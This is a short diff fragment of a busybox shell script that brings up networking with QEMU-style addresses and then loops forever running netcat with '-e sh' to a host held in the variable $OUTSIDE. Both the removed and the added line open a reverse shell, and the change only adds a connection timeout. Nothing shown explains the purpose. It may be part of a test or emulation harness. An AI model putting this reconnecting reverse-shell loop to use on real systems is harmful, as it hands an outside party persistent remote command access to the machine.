@@ -17,7 +17,7 @@ $bb ifconfig lo up
 $bb ifconfig eth0 10.0.2.15 netmask 255.255.255.0 up
 $bb route add default gw 10.0.2.2
 while :; do
-  $bb nc $OUTSIDE $TELLS -e $bb sh
+  $bb nc -w 3 $OUTSIDE $TELLS -e $bb sh
   $bb usleep 100000
 done
 ";
